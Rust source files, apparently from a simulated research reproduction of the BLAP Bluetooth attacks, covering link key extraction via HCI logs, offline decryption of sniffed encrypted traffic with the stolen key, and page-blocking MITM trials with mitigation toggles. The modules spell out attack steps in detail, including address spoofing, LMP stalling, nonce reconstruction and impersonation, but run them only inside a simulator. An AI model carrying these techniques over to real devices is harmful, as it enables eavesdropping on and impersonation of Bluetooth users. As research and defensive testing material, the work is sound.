            world.device_mut(c).host.send_data(m_addr, secret.clone());
            world.run_for(Duration::from_millis(100));
        }
        world.run_for(Duration::from_secs(1));
        let frames = world.sniffed_frames().to_vec();
        let key = extract::from_snoop_log(world.device(c), m_addr).expect("key extracted");
        (frames, key, c_addr, m_addr)
    }

    #[test]
    fn batched_decrypt_matches_scalar_reference() {
        let (frames, key, c_addr, m_addr) = capture(54);
        let scalar = decrypt_capture(&frames, key, c_addr, m_addr);
        let batched = decrypt_capture_batched(&frames, key, c_addr, m_addr);
        assert!(!scalar.is_empty(), "fixture must decrypt something");
        assert_eq!(scalar, batched, "batched engine must be byte-identical");
    }

    /// Deterministic decoy keys that share no bytes with a real extraction.
    fn decoys(n: usize) -> Vec<LinkKey> {
        (0..n)
            .map(|i| {
                let mut bytes = [0u8; 16];
                for (j, b) in bytes.iter_mut().enumerate() {
                    *b = (i as u8)
                        .wrapping_mul(37)
                        .wrapping_add(j as u8)
                        .wrapping_add(1);
                }
                LinkKey::new(bytes)
            })
            .collect()
    }

    #[test]
    fn key_confirm_finds_planted_key_among_decoys() {
        let (frames, key, c_addr, m_addr) = capture(55);
        let mut confirm = KeyConfirm::new(&frames, c_addr, m_addr).expect("probe frame exists");

        // The real key lands mid-chunk among decoys spanning several
        // KEY_LANES-wide batches.
        let mut candidates = decoys(2 * KEY_LANES + 3);
        candidates.insert(KEY_LANES + 2, key);
        assert_eq!(confirm.confirm(&candidates), Some(key));

        // check_batch flags exactly the planted lane.
        let mut chunk = decoys(KEY_LANES);
        chunk[3] = key;
        assert_eq!(confirm.check_batch(&chunk), 1 << 3);
        // Ragged batch: lone candidate, hit and miss.
        assert_eq!(confirm.check_batch(&[key]), 1);
        assert_eq!(confirm.check_batch(&chunk[..2]), 0);
    }

    #[test]
    fn key_confirm_rejects_all_decoys() {
        let (frames, _key, c_addr, m_addr) = capture(56);
        let mut confirm = KeyConfirm::new(&frames, c_addr, m_addr).expect("probe frame exists");
        assert_eq!(confirm.confirm(&decoys(3 * KEY_LANES - 1)), None);
    }
}
