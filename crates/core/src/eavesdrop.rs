//! Traffic decryption with an extracted link key — the §IV consequence the
//! paper states but does not demonstrate: "A would be able to decrypt not
//! only the future, but also the past communications of M captured by
//! air-sniffers using the key."
//!
//! Pipeline:
//!
//! 1. `M` and `C` run an *encrypted* profile session while a passive air
//!    sniffer records everything (cleartext LMP handshakes + AES-CCM ACL
//!    ciphertext),
//! 2. the attacker extracts the `C`–`M` link key via the Fig 5 procedure
//!    (reused from [`crate::link_key_extraction`]'s machinery — here we
//!    read it from `C`'s dump directly),
//! 3. offline, the attacker replays the key schedule: find the sniffed
//!    `LMP_au_rand`, recompute `h4`/`h5` to get the ACO, derive the session
//!    encryption key with `h3`, rebuild each frame's CCM nonce from the
//!    frame order, and decrypt.
//!
//! Everything the attacker uses in step 3 is public (sniffed) except the
//! link key — which is the point.

use blap_crypto::{ccm, ssp};
use blap_sim::{profiles, DeviceId, SniffedFrame, World};
use blap_types::{BdAddr, Duration, LinkKey, ServiceUuid};

use crate::addrs;
use crate::extract;

/// Configuration of an eavesdropping run.
#[derive(Clone, Debug)]
pub struct EavesdropScenario {
    /// World seed.
    pub seed: u64,
    /// The secret payloads `C` sends to `M` over the encrypted link.
    pub secrets: Vec<Vec<u8>>,
}

impl EavesdropScenario {
    /// A scenario with two representative secret payloads.
    pub fn new(seed: u64) -> Self {
        EavesdropScenario {
            seed,
            secrets: vec![
                b"PBAP: +82-10-1234-5678 (CEO)".to_vec(),
                b"MAP: 'wire the funds monday'".to_vec(),
            ],
        }
    }

    /// Runs the capture + extraction + decryption pipeline.
    pub fn run(&self) -> EavesdropReport {
        let m_addr: BdAddr = addrs::M.parse().expect("valid M address");
        let c_addr: BdAddr = addrs::C.parse().expect("valid C address");

        let mut world = World::new(self.seed);
        let m = world.add_device(profiles::lg_velvet().victim_phone(addrs::M));
        let c = world.add_device(profiles::galaxy_s8().soft_target(addrs::C));

        // Bond, then run an encrypted profile session carrying secrets.
        world.device_mut(c).host.pair_with(m_addr);
        world.run_for(Duration::from_secs(5));
        world.device_mut(c).host.disconnect(m_addr);
        world.run_for(Duration::from_secs(2));
        world
            .device_mut(c)
            .host
            .connect_profile(m_addr, ServiceUuid::PBAP_PSE);
        world.run_for(Duration::from_secs(5));
        for secret in &self.secrets {
            world.device_mut(c).host.send_data(m_addr, secret.clone());
            world.run_for(Duration::from_millis(100));
        }
        world.run_for(Duration::from_secs(1));
        let _ = m;

        // The attacker's inputs: the sniffer capture and C's HCI dump.
        let frames: Vec<SniffedFrame> = world.sniffed_frames().to_vec();
        let stolen_key = extract::from_snoop_log(world.device(c), m_addr);

        let mut report = EavesdropReport {
            captured_encrypted_frames: frames
                .iter()
                .filter(|f| {
                    matches!(
                        f,
                        SniffedFrame::Acl {
                            encrypted: true,
                            ..
                        }
                    )
                })
                .count(),
            ciphertext_contains_secrets: ciphertexts_contain(&frames, &self.secrets),
            stolen_key,
            decrypted_secrets: Vec::new(),
        };
        let Some(key) = stolen_key else {
            return report;
        };

        report.decrypted_secrets = decrypt_capture(&frames, key, c_addr, m_addr)
            .into_iter()
            .filter(|p| self.secrets.contains(p))
            .collect();
        report
    }
}

/// True when any encrypted frame carries a secret in the clear (must be
/// false — otherwise "encryption" did nothing).
fn ciphertexts_contain(frames: &[SniffedFrame], secrets: &[Vec<u8>]) -> bool {
    frames.iter().any(|f| match f {
        SniffedFrame::Acl {
            data,
            encrypted: true,
            ..
        } => secrets
            .iter()
            .any(|s| !s.is_empty() && data.windows(s.len()).any(|w| w == s.as_slice())),
        _ => false,
    })
}

/// The offline decryption step: exactly what an attacker with the capture
/// and the stolen link key can compute.
///
/// `verifier`/`prover` are the authentication roles as sniffed (`C`
/// initiated the profile connection, so `C` is the verifier); the central
/// of the link is also `C` here since it paged.
pub fn decrypt_capture(
    frames: &[SniffedFrame],
    stolen_key: LinkKey,
    verifier: BdAddr,
    prover: BdAddr,
) -> Vec<Vec<u8>> {
    // 1. Recover the ACO from the sniffed challenge.
    let au_rand = frames.iter().find_map(|f| match f {
        SniffedFrame::Lmp {
            au_rand: Some(r), ..
        } => Some(*r),
        _ => None,
    });
    let Some(au_rand) = au_rand else {
        return Vec::new();
    };
    let zero = [0u8; 16];
    let (_sres, aco) =
        ssp::secure_authentication_response(&stolen_key, verifier, prover, &au_rand, &zero);

    // 2. Derive the session encryption key (central first, like the
    //    controllers do).
    let mut aco_ext = [0u8; 8];
    aco_ext.copy_from_slice(&aco);
    let enc_key = ssp::h3(&stolen_key, verifier, prover, &aco_ext);

    // 3. Decrypt every encrypted frame, reconstructing the nonce from the
    //    frame's position in the capture. The handle is not sniffable at
    //    this layer, so brute-force the 1-byte handles the simulation
    //    allocates — a real attacker reads it from the baseband header.
    //    One CCM context serves the whole capture: the session key is
    //    fixed, so the AES key schedule is expanded once, not per
    //    frame × handle attempt.
    let ccm = ccm::Ccm::new(&enc_key);
    let mut plaintexts = Vec::new();
    for frame in frames {
        if let SniffedFrame::Acl {
            data,
            encrypted: true,
            packet_counter,
            ..
        } = frame
        {
            let nonce = ccm::acl_nonce(*packet_counter, verifier);
            for handle in 1u16..=8 {
                if let Ok(plain) = ccm.open(&nonce, &handle.to_le_bytes(), data) {
                    plaintexts.push(plain);
                    break;
                }
            }
        }
    }
    plaintexts
}

/// Outcome of an eavesdropping run.
#[derive(Clone, Debug)]
pub struct EavesdropReport {
    /// Encrypted ACL frames the sniffer captured.
    pub captured_encrypted_frames: usize,
    /// Whether any secret appeared in the ciphertext (encryption sanity).
    pub ciphertext_contains_secrets: bool,
    /// The link key pulled from `C`'s dump.
    pub stolen_key: Option<LinkKey>,
    /// Secrets recovered by offline decryption.
    pub decrypted_secrets: Vec<Vec<u8>>,
}

impl EavesdropReport {
    /// The full-attack verdict: ciphertext alone leaked nothing, but the
    /// stolen key decrypted every secret.
    pub fn succeeded(&self, expected_secrets: usize) -> bool {
        self.stolen_key.is_some()
            && !self.ciphertext_contains_secrets
            && self.decrypted_secrets.len() == expected_secrets
    }
}

/// A convenience holder so `DeviceId` stays used even if scenarios evolve.
#[doc(hidden)]
pub type _DeviceIdAlias = DeviceId;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encrypted_capture_hides_secrets_without_the_key() {
        let scenario = EavesdropScenario::new(51);
        let report = scenario.run();
        assert!(report.captured_encrypted_frames > 0, "{report:?}");
        assert!(
            !report.ciphertext_contains_secrets,
            "link encryption must hide payloads from the sniffer"
        );
    }

    #[test]
    fn stolen_key_decrypts_past_traffic() {
        let scenario = EavesdropScenario::new(52);
        let report = scenario.run();
        assert!(report.stolen_key.is_some());
        assert!(
            report.succeeded(scenario.secrets.len()),
            "all secrets must decrypt: {report:?}"
        );
    }

    #[test]
    fn wrong_key_decrypts_nothing() {
        let scenario = EavesdropScenario::new(53);
        let m_addr: BdAddr = addrs::M.parse().expect("valid address");
        let c_addr: BdAddr = addrs::C.parse().expect("valid address");
        // Re-run the capture, then attempt decryption with a wrong key.
        let mut world = World::new(scenario.seed);
        let _m = world.add_device(profiles::lg_velvet().victim_phone(addrs::M));
        let c = world.add_device(profiles::galaxy_s8().soft_target(addrs::C));
        world.device_mut(c).host.pair_with(m_addr);
        world.run_for(Duration::from_secs(5));
        world.device_mut(c).host.disconnect(m_addr);
        world.run_for(Duration::from_secs(2));
        world
            .device_mut(c)
            .host
            .connect_profile(m_addr, ServiceUuid::PBAP_PSE);
        world.run_for(Duration::from_secs(5));
        world
            .device_mut(c)
            .host
            .send_data(m_addr, b"top secret".to_vec());
        world.run_for(Duration::from_secs(1));

        let frames = world.sniffed_frames().to_vec();
        let wrong: LinkKey = "00000000000000000000000000000000".parse().expect("valid");
        let plaintexts = decrypt_capture(&frames, wrong, c_addr, m_addr);
        assert!(
            plaintexts.is_empty(),
            "CCM tags must reject a wrong key: {plaintexts:?}"
        );
    }
}
