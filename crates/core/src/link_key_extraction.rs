//! The link key extraction attack (§IV, Fig 5), end to end.
//!
//! Roles: `M` is the hard target (a phone holding sensitive data), `C` a
//! soft target bonded with `M` (car-kit, headset, PC — something the
//! attacker can physically touch), `A` the attacker's device.
//!
//! Fig 5 steps, as this module executes them:
//!
//! 1. `A` accesses `C` and arranges HCI recording (snoop option on for
//!    Android-style targets; the USB analyzer is already inline on dongle
//!    targets),
//! 2. `A` spoofs `M`'s BDADDR (`M` itself is out of range),
//! 3. `C` connects and starts LMP authentication with "M" (really `A`);
//!    `C`'s controller requests `M`'s link key from its host,
//! 4. the host's `HCI_Link_Key_Request_Reply` — key included — lands in
//!    the HCI record,
//! 5. `A` silently drops its own `HCI_Link_Key_Request` (Fig 9), so the
//!    procedure dies by LMP timeout, not authentication failure, and `C`'s
//!    stored bond stays intact,
//! 6. `A` pulls the record (bug report / USB stream) and extracts the key,
//! 7. `A` spoofs `C`, installs Fig 10 fake bonding info with the extracted
//!    key, and validates by PAN tethering to the real `M` — success without
//!    any pairing UI proves the key (§VI-B1).

use blap_host::keystore::BondEntry;
use blap_obs::{prof, Metrics, Tracer};
use blap_sim::{profiles, DeviceProfile, World};
use blap_types::{BdAddr, Duration, LinkKey, ServiceUuid};

use crate::addrs;
use crate::extract::{self, ExtractionChannel};

/// Configuration of one extraction run.
#[derive(Clone, Debug)]
pub struct ExtractionScenario {
    /// The soft target `C`'s device profile (a Table I row).
    pub soft_target: DeviceProfile,
    /// The hard target `M`'s profile (the paper used an LG VELVET).
    pub hard_target: DeviceProfile,
    /// World seed (determinism).
    pub seed: u64,
    /// §VII-A mitigation 1: `C`'s dump module redacts link keys.
    pub mitigate_filter_dump: bool,
    /// §VII-A mitigation 2: link-key payloads cross `C`'s HCI encrypted.
    pub mitigate_encrypt_payload: bool,
}

impl ExtractionScenario {
    /// A plain (unmitigated) scenario against the given soft target.
    pub fn new(soft_target: DeviceProfile, seed: u64) -> Self {
        ExtractionScenario {
            soft_target,
            hard_target: profiles::lg_velvet(),
            seed,
            mitigate_filter_dump: false,
            mitigate_encrypt_payload: false,
        }
    }

    /// Runs the full attack and returns the report.
    pub fn run(&self) -> ExtractionReport {
        self.run_observed(&Tracer::disabled()).0
    }

    /// [`Self::run`] with observability: trace events flow to `tracer` and
    /// the world's metrics snapshot is returned alongside the report.
    pub fn run_observed(&self, tracer: &Tracer) -> (ExtractionReport, Metrics) {
        let _prof = prof::scope("trial");
        let m_addr: BdAddr = addrs::M.parse().expect("valid M address");
        let c_addr: BdAddr = addrs::C.parse().expect("valid C address");

        let mut world = World::new(self.seed);
        world.set_tracer(tracer.clone());
        let trial_span = tracer.open_root_span(world.now(), "trial", "extraction");
        let m = world.add_device(self.hard_target.victim_phone(addrs::M));
        let mut c_spec = self.soft_target.soft_target(addrs::C);
        c_spec.security.filter_link_keys = self.mitigate_filter_dump;
        c_spec.security.encrypt_link_key_payloads = self.mitigate_encrypt_payload;
        let c = world.add_device(c_spec);
        let a = world.add_device(profiles::attacker_nexus_5x(addrs::A));

        // Keep the attacker silent during the honest bonding phase.
        let now = world.now();
        world.device_mut(a).controller.on_command(
            now,
            blap_hci::Command::WriteScanEnable {
                inquiry_scan: false,
                page_scan: false,
            },
        );

        // --- Phase 0: the genuine C–M bond the attacker will steal.
        world.device_mut(c).host.pair_with(m_addr);
        world.run_for(Duration::from_secs(10));
        let bonded_key = match world.device(c).host.keystore().get(m_addr) {
            Some(entry) => entry.link_key,
            None => {
                tracer.close_span(world.now(), trial_span, "setup_failed");
                return (ExtractionReport::failed_setup(self), world.metrics());
            }
        };
        // Drop the honest link so the stage is clean.
        world.device_mut(c).host.disconnect(m_addr);
        world.run_for(Duration::from_secs(2));

        // --- Fig 5 steps 1–2: M leaves range; A impersonates M.
        let now = world.now();
        world.device_mut(m).controller.on_command(
            now,
            blap_hci::Command::WriteScanEnable {
                inquiry_scan: false,
                page_scan: false,
            },
        );
        world.device_mut(a).controller.set_bd_addr(m_addr);
        world.device_mut(a).controller.on_command(
            now,
            blap_hci::Command::WriteScanEnable {
                inquiry_scan: false,
                page_scan: true,
            },
        );

        // --- Step 3: C re-connects to "M" and starts LMP authentication.
        world
            .device_mut(c)
            .host
            .connect_profile(m_addr, ServiceUuid::HANDS_FREE);
        // Steps 4–5 happen inside: the key is logged; A stalls; the LMP
        // response timeout (30 s) tears the link down without an
        // authentication failure.
        world.run_for(Duration::from_secs(40));

        let victim_bond_intact = world.device(c).host.keystore().get(m_addr).is_some();

        // --- Step 6: pull the record and extract.
        let extraction = extract::auto(world.device(c), m_addr);
        let (channel, extracted_key) = match extraction {
            Some((channel, key)) => (Some(channel), Some(key)),
            None => (None, None),
        };
        let key_matches = extracted_key == Some(bonded_key);

        // --- Step 7: validation by impersonation of C against the real M.
        let mut impersonation_validated = false;
        let mut victim_saw_pairing_ui = false;
        if let Some(stolen) = extracted_key {
            // M returns to range.
            let now = world.now();
            world.device_mut(m).controller.on_command(
                now,
                blap_hci::Command::WriteScanEnable {
                    inquiry_scan: false,
                    page_scan: true,
                },
            );
            // A becomes C: spoofed address, hands-free CoD (Fig 8), fake
            // bonding record (Fig 10), and — unlike during the stall — a
            // host that answers link key requests.
            world.device_mut(a).controller.set_bd_addr(c_addr);
            world.device_mut(a).controller.on_command(
                now,
                blap_hci::Command::WriteClassOfDevice {
                    cod: blap_types::ClassOfDevice::HANDS_FREE,
                },
            );
            {
                let attacker = world.device_mut(a);
                attacker.host.config_mut().attacker.ignore_link_key_request = false;
                attacker.host.config_mut().attacker.ploc_delay = None;
                attacker.host.install_bond(
                    m_addr,
                    BondEntry {
                        name: Some("VELVET".into()),
                        link_key: stolen,
                        key_type: blap_types::LinkKeyType::UnauthenticatedP256,
                        services: vec![ServiceUuid::PANU, ServiceUuid::NAP],
                    },
                );
            }
            let m_popups_before = popup_count(&world, m);
            world
                .device_mut(a)
                .host
                .connect_profile(m_addr, ServiceUuid::PANU);
            world.run_for(Duration::from_secs(10));

            impersonation_validated = world
                .device(a)
                .user
                .find(|n| {
                    matches!(
                        n,
                        blap_host::UiNotification::ProfileConnected { service, .. }
                            if *service == ServiceUuid::PANU
                    )
                })
                .is_some();
            victim_saw_pairing_ui = popup_count(&world, m) > m_popups_before;
        }

        let report = ExtractionReport {
            soft_target: self.soft_target,
            channel,
            bonded_key: Some(bonded_key),
            extracted_key,
            key_matches,
            victim_bond_intact,
            impersonation_validated,
            victim_saw_pairing_ui,
        };
        let status = if report.key_matches {
            "vulnerable"
        } else {
            "not_vulnerable"
        };
        tracer.close_span(world.now(), trial_span, status);
        (report, world.metrics())
    }
}

fn popup_count(world: &World, id: blap_sim::DeviceId) -> usize {
    world
        .device(id)
        .user
        .log
        .iter()
        .filter(|(_, n)| matches!(n, blap_host::UiNotification::PairingConfirmation { .. }))
        .count()
}

/// Outcome of one extraction run — one Table I row plus the validation
/// evidence of §VI-B1.
#[derive(Clone, Debug)]
pub struct ExtractionReport {
    /// The soft target profile attacked.
    pub soft_target: DeviceProfile,
    /// The channel that leaked the key, when extraction succeeded.
    pub channel: Option<ExtractionChannel>,
    /// Ground truth: the key `C` actually shares with `M`.
    pub bonded_key: Option<LinkKey>,
    /// What the attacker recovered.
    pub extracted_key: Option<LinkKey>,
    /// Whether the recovered key equals the ground truth.
    pub key_matches: bool,
    /// Whether `C` still holds its bond after the attack (the LMP-timeout
    /// trick's whole point).
    pub victim_bond_intact: bool,
    /// Whether the stolen key authenticated `A` to the real `M` over PAN
    /// without any new pairing.
    pub impersonation_validated: bool,
    /// Whether `M` saw any pairing UI during validation (must be false).
    pub victim_saw_pairing_ui: bool,
}

impl ExtractionReport {
    fn failed_setup(scenario: &ExtractionScenario) -> Self {
        ExtractionReport {
            soft_target: scenario.soft_target,
            channel: None,
            bonded_key: None,
            extracted_key: None,
            key_matches: false,
            victim_bond_intact: false,
            impersonation_validated: false,
            victim_saw_pairing_ui: false,
        }
    }

    /// The paper's "vulnerable" verdict: key extracted, matching, bond
    /// preserved, impersonation works silently.
    pub fn vulnerable(&self) -> bool {
        self.key_matches
            && self.victim_bond_intact
            && self.impersonation_validated
            && !self.victim_saw_pairing_ui
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn android_soft_target_is_vulnerable() {
        let report = ExtractionScenario::new(profiles::nexus_5x_a8(), 1).run();
        assert_eq!(report.channel, Some(ExtractionChannel::HciSnoopLog));
        assert!(report.key_matches, "extracted key must equal the bond key");
        assert!(report.victim_bond_intact, "timeout must preserve the bond");
        assert!(report.impersonation_validated, "PAN must connect silently");
        assert!(!report.victim_saw_pairing_ui);
        assert!(report.vulnerable());
    }

    #[test]
    fn usb_soft_target_is_vulnerable() {
        let report = ExtractionScenario::new(profiles::windows_csr_harmony(), 2).run();
        assert_eq!(report.channel, Some(ExtractionChannel::UsbSniffer));
        assert!(report.vulnerable());
    }

    #[test]
    fn deterministic_given_seed() {
        let a = ExtractionScenario::new(profiles::galaxy_s8(), 5).run();
        let b = ExtractionScenario::new(profiles::galaxy_s8(), 5).run();
        assert_eq!(a.extracted_key, b.extracted_key);
        assert_eq!(a.bonded_key, b.bonded_key);
    }

    #[test]
    fn different_seeds_different_keys() {
        let a = ExtractionScenario::new(profiles::galaxy_s8(), 5).run();
        let b = ExtractionScenario::new(profiles::galaxy_s8(), 6).run();
        assert_ne!(
            a.extracted_key, b.extracted_key,
            "fresh pairing randomness must give fresh keys"
        );
    }
}
