//! The page blocking attack (§V, Fig 6b) and the baseline MITM race it
//! replaces (Table II).
//!
//! Baseline (prior work's implicit assumption): the attacker `A` clones the
//! accessory `C`'s BDADDR and sits in page scan next to it. When the victim
//! `M` pages `C`, the two listeners race; the paper measured the attacker
//! winning only 42–60% of the time depending on the victim device.
//!
//! Page blocking: `A` *initiates* a baseband connection to `M` first (steps
//! 1–3: NoInputNoOutput IO capability, spoofed BDADDR, PLOC hold). When the
//! user later tells `M` to pair with `C` (steps 4–6), `M`'s host finds the
//! existing link under `C`'s address and sends the pairing request straight
//! down it — no page, no race, 100%. The pairing then runs Just Works
//! because `A` advertises no IO.

use blap_baseband::race::PageRaceModel;
use blap_obs::{prof, Metrics, Tracer};
use blap_sim::{profiles, DeviceId, DeviceProfile, World};
use blap_types::{BdAddr, Duration, LinkKeyType};

use crate::addrs;
use crate::runner::{parallel_map, Jobs};

/// Configuration of one page blocking experiment (one Table II row).
#[derive(Clone, Debug)]
pub struct PageBlockingScenario {
    /// The victim phone `M`'s profile.
    pub victim: DeviceProfile,
    /// Master seed; trial `i` runs in a world seeded `seed + i`.
    pub seed: u64,
    /// Trials per condition (the paper ran 100).
    pub trials: usize,
    /// How long after the PLOC connection the user starts pairing (the
    /// paper's experiment assumed within 10 s).
    pub pairing_delay: Duration,
    /// PLOC hold duration configured on the attacker.
    pub ploc_delay: Duration,
    /// Whether the attacker sends keep-alive traffic during PLOC.
    pub keepalive: bool,
    /// Whether the victim's user accepts pairing popups.
    pub user_accepts: bool,
    /// §VII-B mitigation on the victim: reject NoInputNoOutput
    /// connection-initiators when we initiate pairing.
    pub mitigate_role_check: bool,
}

impl PageBlockingScenario {
    /// The paper's experiment setup for a victim profile.
    pub fn new(victim: DeviceProfile, seed: u64) -> Self {
        PageBlockingScenario {
            victim,
            seed,
            trials: 100,
            pairing_delay: Duration::from_secs(2),
            ploc_delay: Duration::from_secs(10),
            keepalive: true,
            user_accepts: true,
            mitigate_role_check: false,
        }
    }

    fn build_world(&self, trial: usize, blocking: bool) -> (World, DeviceId, DeviceId, DeviceId) {
        let mut world = World::new(self.seed.wrapping_add(trial as u64));
        if let Some(rate) = self.victim.baseline_mitm_rate {
            world.set_race_model(PageRaceModel::from_attacker_win_rate(rate));
        }
        let mut m_spec = self.victim.victim_phone_with_snoop(addrs::M);
        m_spec.host.mitigations.reject_noio_connection_initiator = self.mitigate_role_check;
        m_spec.user.accept_pairing = self.user_accepts;
        let m = world.add_device(m_spec);
        let c = world.add_device(profiles::car_kit(addrs::C));
        let mut a_spec = profiles::attacker_nexus_5x(addrs::C); // spoofed from boot
        a_spec.host.attacker.ignore_link_key_request = false; // not used here
        a_spec.host.attacker.ploc_delay = if blocking {
            Some(self.ploc_delay)
        } else {
            None
        };
        a_spec.host.attacker.ploc_keepalive = self.keepalive;
        let a = world.add_device(a_spec);
        (world, m, c, a)
    }

    /// One baseline trial (no page blocking): `M` pages `C`'s address, the
    /// race decides. Returns the trial outcome.
    pub fn run_baseline_trial(&self, trial: usize) -> TrialOutcome {
        self.run_baseline_trial_observed(trial, &Tracer::disabled())
            .0
    }

    /// [`Self::run_baseline_trial`] with observability: trace events flow
    /// to `tracer`; the trial world's metrics snapshot rides along.
    pub fn run_baseline_trial_observed(
        &self,
        trial: usize,
        tracer: &Tracer,
    ) -> (TrialOutcome, Metrics) {
        let _prof = prof::scope("trial");
        let (mut world, m, c, a) = self.build_world(trial, false);
        world.set_tracer(tracer.clone());
        let span = tracer.open_root_span(world.now(), "trial", "baseline");
        let c_addr: BdAddr = addrs::C.parse().expect("valid C address");
        world.device_mut(m).host.pair_with(c_addr);
        world.run_for(Duration::from_secs(15));
        let outcome = self.judge(&world, m, c, a);
        let status = if outcome.mitm_established {
            "attacker_won"
        } else {
            "attacker_lost"
        };
        tracer.close_span(world.now(), span, status);
        (outcome, world.metrics())
    }

    /// One page blocking trial: `A` pre-connects and parks in PLOC; the
    /// user pairs `pairing_delay` later.
    pub fn run_blocking_trial(&self, trial: usize) -> TrialOutcome {
        self.run_blocking_trial_observed(trial, &Tracer::disabled())
            .0
    }

    /// [`Self::run_blocking_trial`] with observability.
    pub fn run_blocking_trial_observed(
        &self,
        trial: usize,
        tracer: &Tracer,
    ) -> (TrialOutcome, Metrics) {
        let _prof = prof::scope("trial");
        let (mut world, m, c, a) = self.build_world(trial, true);
        world.set_tracer(tracer.clone());
        let span = tracer.open_root_span(world.now(), "trial", "blocking");
        let m_addr: BdAddr = addrs::M.parse().expect("valid M address");
        let c_addr: BdAddr = addrs::C.parse().expect("valid C address");

        // Steps 1–3: A (NoInputNoOutput, spoofed as C) connects to M and
        // holds PLOC.
        world.device_mut(a).host.connect_only(m_addr);
        // Steps 4–6: the user runs discovery and starts pairing with C.
        let delay = self.pairing_delay;
        world.schedule_in(delay, move |w| {
            w.device_mut(m).host.pair_with(c_addr);
        });
        world.run_for(delay + Duration::from_secs(15));
        let outcome = self.judge(&world, m, c, a);
        let status = if outcome.mitm_established {
            "attacker_won"
        } else {
            "attacker_lost"
        };
        tracer.close_span(world.now(), span, status);
        (outcome, world.metrics())
    }

    fn judge(&self, world: &World, m: DeviceId, c: DeviceId, a: DeviceId) -> TrialOutcome {
        let c_addr: BdAddr = addrs::C.parse().expect("valid C address");
        let m_addr: BdAddr = addrs::M.parse().expect("valid M address");
        let mitm_established = world.linked(m, a);
        let paired_with_attacker = mitm_established
            && world
                .device(a)
                .host
                .keystore()
                .get(m_addr)
                .map(|their| {
                    world
                        .device(m)
                        .host
                        .keystore()
                        .get(c_addr)
                        .map(|ours| ours.link_key == their.link_key)
                        .unwrap_or(false)
                })
                .unwrap_or(false);
        let honest_pairing =
            world.linked(m, c) && world.device(c).host.keystore().get(m_addr).is_some();
        let downgraded = world
            .device(m)
            .host
            .keystore()
            .get(c_addr)
            .map(|e| e.key_type == LinkKeyType::UnauthenticatedP256)
            .unwrap_or(false);
        let m_device = world.device(m);
        // The iPhone case (§VI-B2): when M exposes no HCI dump, analyze the
        // attacker's dump instead, exactly as the paper did.
        let m_trace = m_device.snoop_trace();
        let fig12b_signature = if m_device.bug_report().is_some() {
            m_trace.has_page_blocking_signature(c_addr)
        } else {
            world
                .device(a)
                .snoop_trace()
                .has_attacker_side_page_blocking_signature(m_addr)
        };
        let popup_shown = m_device.user.saw_pairing_popup();
        let popup_had_number = m_device.user.saw_numeric_value();
        let security_alert = m_device
            .user
            .find(|n| matches!(n, blap_host::UiNotification::SecurityAlert { .. }))
            .is_some();
        TrialOutcome {
            mitm_established,
            paired_with_attacker,
            honest_pairing,
            downgraded_to_just_works: downgraded,
            fig12b_signature,
            popup_shown,
            popup_had_number,
            security_alert,
        }
    }

    /// Runs one baseline and one blocking trial for the same trial index —
    /// the unit of work the parallel engine distributes.
    pub fn run_trial_pair(&self, trial: usize) -> (TrialOutcome, TrialOutcome) {
        (
            self.run_baseline_trial(trial),
            self.run_blocking_trial(trial),
        )
    }

    /// [`Self::run_trial_pair`] with observability: the two trial worlds'
    /// metrics are merged into one per-unit bag (counters add, so e.g.
    /// `race.attacker_wins` covers the baseline race of this pair).
    pub fn run_trial_pair_observed(
        &self,
        trial: usize,
        tracer: &Tracer,
    ) -> ((TrialOutcome, TrialOutcome), Metrics) {
        let (baseline, mut metrics) = self.run_baseline_trial_observed(trial, tracer);
        let (blocking, blocking_metrics) = self.run_blocking_trial_observed(trial, tracer);
        metrics.merge(&blocking_metrics);
        ((baseline, blocking), metrics)
    }

    /// Folds per-trial outcomes (in trial order) into a Table II row.
    pub fn aggregate(&self, outcomes: &[(TrialOutcome, TrialOutcome)]) -> PageBlockingRow {
        assert_eq!(outcomes.len(), self.trials, "one outcome pair per trial");
        let baseline_wins = outcomes.iter().filter(|(b, _)| b.mitm_established).count();
        let blocking_wins = outcomes.iter().filter(|(_, p)| p.mitm_established).count();
        let sample = outcomes.first().expect("at least one trial").1;
        PageBlockingRow {
            device: self.victim.name.to_owned(),
            os: self.victim.os.to_owned(),
            trials: self.trials,
            paper_baseline_rate: self.victim.baseline_mitm_rate.unwrap_or(0.5),
            measured_baseline_rate: baseline_wins as f64 / self.trials as f64,
            measured_blocking_rate: blocking_wins as f64 / self.trials as f64,
            downgraded_to_just_works: sample.downgraded_to_just_works,
            fig12b_signature: sample.fig12b_signature,
            popup_had_number: sample.popup_had_number,
        }
    }

    /// Runs the full experiment: `trials` baseline races and `trials` page
    /// blocking runs. This regenerates one Table II row. Worker count comes
    /// from the environment ([`Jobs::from_env`]); each trial's world is
    /// seeded from the trial index alone, so the row is byte-identical at
    /// any parallelism.
    pub fn run(&self) -> PageBlockingRow {
        self.run_with(Jobs::from_env())
    }

    /// [`Self::run`] with an explicit worker count.
    pub fn run_with(&self, jobs: Jobs) -> PageBlockingRow {
        let outcomes = parallel_map(jobs, self.trials, |trial| self.run_trial_pair(trial));
        self.aggregate(&outcomes)
    }
}

/// What happened in one trial.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct TrialOutcome {
    /// `M` ended up linked to `A` (the MITM connection of Table II).
    pub mitm_established: bool,
    /// `M` completed pairing with `A` and both hold the same key.
    pub paired_with_attacker: bool,
    /// `M` instead paired with the genuine `C`.
    pub honest_pairing: bool,
    /// The stored key is unauthenticated (Just Works downgrade succeeded).
    pub downgraded_to_just_works: bool,
    /// `M`'s HCI dump shows the Fig 12b signature (connection responder +
    /// pairing initiator).
    pub fig12b_signature: bool,
    /// A pairing popup was shown on `M`.
    pub popup_shown: bool,
    /// The popup carried a comparable numeric value (it must not, under
    /// Just Works).
    pub popup_had_number: bool,
    /// The §VII-B mitigation fired.
    pub security_alert: bool,
}

/// One row of Table II.
#[derive(Clone, Debug, PartialEq)]
pub struct PageBlockingRow {
    /// Victim device name.
    pub device: String,
    /// Victim OS string.
    pub os: String,
    /// Trials per condition.
    pub trials: usize,
    /// The success rate the paper measured without page blocking.
    pub paper_baseline_rate: f64,
    /// Our measured baseline rate.
    pub measured_baseline_rate: f64,
    /// Our measured rate with page blocking (the paper: 100%).
    pub measured_blocking_rate: f64,
    /// Whether the resulting bond was Just Works (unauthenticated).
    pub downgraded_to_just_works: bool,
    /// Whether `M`'s dump carried the Fig 12b signature.
    pub fig12b_signature: bool,
    /// Whether the popup exposed a comparable value (detection chance).
    pub popup_had_number: bool,
}

#[cfg(test)]
mod tests {
    use super::*;

